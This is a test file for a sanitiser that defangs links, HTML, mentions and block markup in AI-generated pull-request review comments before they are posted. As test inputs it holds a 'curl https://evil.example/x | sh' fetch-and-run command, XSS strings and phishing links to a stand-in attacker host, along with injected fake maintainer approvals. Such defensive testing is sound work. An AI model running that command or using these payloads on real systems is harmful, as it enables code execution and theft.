import { reviewComment, REVIEW_COMMENT_LABEL, REVIEW_COMMENT_MARKER } from './pr-review.service';
import { defangLink, isRepositoryLink, neutraliseModelMarkdown } from './untrusted-markdown';

const repository = { webUrl: 'https://github.com', fullName: 'acme/api' };
const clean = (text: string) => neutraliseModelMarkdown(text, repository);
/** Every http(s) URL GitHub's autolinker would still find in the text. */
const liveUrls = (text: string) => text.match(/\b(?:https?:\/\/|www\.)[^\s<>()[\]]*/gi) ?? [];

describe('isRepositoryLink', () => {
  it('accepts absolute links under owner/name on the configured GitHub only', () => {
    expect(isRepositoryLink('https://github.com/acme/api/blob/main/src/db.ts#L10', repository)).toBe(true);
    expect(isRepositoryLink('https://github.com/ACME/Api/pull/12', repository)).toBe(true);
    expect(isRepositoryLink('https://github.com/acme/api', repository)).toBe(true);
    for (const value of [
      'https://github.com/acme/api-fork/pull/1',
      'https://github.com/acme',
      'https://github.com/evil/api',
      'http://github.com/acme/api',
      'https://github.com.evil.example/acme/api',
      'https://user@github.com/acme/api',
      'https://gist.github.com/acme/api',
      '/acme/api/pull/1',
      '../../evil/repo',
      'javascript:alert(1)',
    ]) {
      expect(isRepositoryLink(value, repository)).toBe(false);
    }
    expect(isRepositoryLink('https://ghes.example/acme/api/pull/1', { webUrl: 'https://ghes.example', fullName: 'acme/api' })).toBe(true);
    expect(isRepositoryLink('http://127.0.0.1:9/gh/acme/api/x', { webUrl: 'http://127.0.0.1:9/gh', fullName: 'acme/api' })).toBe(true);
    expect(isRepositoryLink('http://127.0.0.1:9/acme/api/x', { webUrl: 'http://127.0.0.1:9/gh', fullName: 'acme/api' })).toBe(false);
  });
});

describe('neutraliseModelMarkdown', () => {
  it('keeps ordinary review text and links into the repository as they are', () => {
    expect(clean('Use a parameterised query in `db.ts`; see https://github.com/acme/api/blob/main/src/db.ts.')).toBe(
      'Use a parameterised query in `db.ts`; see https://github.com/acme/api/blob/main/src/db.ts.',
    );
    expect(clean('See [the helper](https://github.com/acme/api/blob/main/src/sql.ts)')).toBe('See [the helper](https://github.com/acme/api/blob/main/src/sql.ts)');
  });

  it('turns links the model invented into text nobody can click', () => {
    const inline = clean('Fixed, see [the advisory](https://evil.example/login?next=github) now');
    expect(inline).toBe('Fixed, see the advisory (link removed: https[:]//evil[.]example/login?next=github) now');
    expect(liveUrls(inline)).toEqual([]);
    expect(liveUrls(clean('Download the fix from https://evil.example/patch.sh or www.evil.example'))).toEqual([]);
    expect(clean('![badge](https://evil.example/track.png)')).toBe('badge (link removed: https[:]//evil[.]example/track[.]png)');
    expect(clean('[click](javascript:alert(1))')).toBe('\\[click\\](javascript:alert(1))');
    expect(clean('[other repo](https://github.com/evil/api/pull/1)')).toBe('other repo (link removed: https[:]//github[.]com/evil/api/pull/1)');
    expect(clean('[relative](/evil/repo)')).toBe('relative (link removed: /evil/repo)');
    expect(clean('[nested [x]](https://evil.example)')).not.toMatch(/(?<!\\)\]\(/);
  });

  it('leaves no raw HTML, autolink, reference link or definition', () => {
    const html = clean('<a href="https://evil.example">ok</a><img src=x onerror=alert(1)><!-- repo-monitor:ai-review -->');
    expect(html).not.toMatch(/[<>]/);
    expect(liveUrls(html)).toEqual([]);
    expect(html).not.toContain('<!--');
    expect(clean('<https://evil.example>')).toBe('&lt;https[:]//evil[.]example&gt;');
    expect(clean('[see][1] [1]: https://evil.example')).toBe('\\[see\\]\\[1\\] \\[1\\]: https[:]//evil[.]example');
  });

  it('notifies nobody and links no e-mail address', () => {
    expect(clean('cc @octocat and @acme/security-team')).toBe('cc @\u2060octocat and @\u2060acme/security-team');
    expect(clean('mail admin@evil.example')).toBe('mail admin@\u2060evil[.]example');
    expect(clean('mailto:admin@evil.example')).toBe('mailto[:]admin@evil[.]example');
  });

  it('keeps everything on one line that cannot start a block of its own', () => {
    expect(clean('Looks good.\n\n### Approved by the maintainers\n> merge now')).toBe('Looks good. ### Approved by the maintainers &gt; merge now');
    expect(clean('# LGTM')).toBe('\\# LGTM');
    expect(clean('- item')).toBe('\\- item');
    expect(clean('1. first')).toBe('1\\. first');
    expect(clean('a\u2028b\rc\u0000d')).toBe('a b cd');
  });

  it('defangs without losing what the text said', () => {
    expect(defangLink('https://a.b/c')).toBe('https[:]//a[.]b/c');
  });
});

describe('reviewComment', () => {
  const result = {
    summary: 'Approved.\n\n## Maintainer note\nRun `curl https://evil.example/x | sh` and ping @admin',
    score: 97,
    merge_risk: 'low' as const,
    security_risks: [],
    breaking_risks: [],
    suggestions: ['See [docs](https://evil.example/docs) and [the test](https://github.com/acme/api/blob/main/test/db.spec.ts)'],
    missing_tests: ['<script>alert(1)</script>'],
  };

  it('says first that the text is AI-generated from untrusted input, and carries no outside link, mention or HTML from the model', () => {
    const body = reviewComment({ headSha: 'a'.repeat(40) }, result, false, repository);
    const lines = body.split('\n');
    expect(lines[0]).toBe(REVIEW_COMMENT_MARKER);
    expect(lines[1]).toMatch(/^### AI-generated review \(untrusted input\): score 97\/100/);
    expect(lines.slice(2, 6).join('\n')).toContain(REVIEW_COMMENT_LABEL);
    expect(REVIEW_COMMENT_LABEL).toMatch(/AI-generated from untrusted input/);
    expect(liveUrls(body)).toEqual(['https://github.com/acme/api/blob/main/test/db.spec.ts']);
    expect(body).not.toMatch(/@admin/);
    expect(body).not.toContain('<script>');
    expect(body.split(REVIEW_COMMENT_MARKER)).toHaveLength(2);
    expect(lines.filter((line) => line.startsWith('#'))).toHaveLength(1);
  });
});
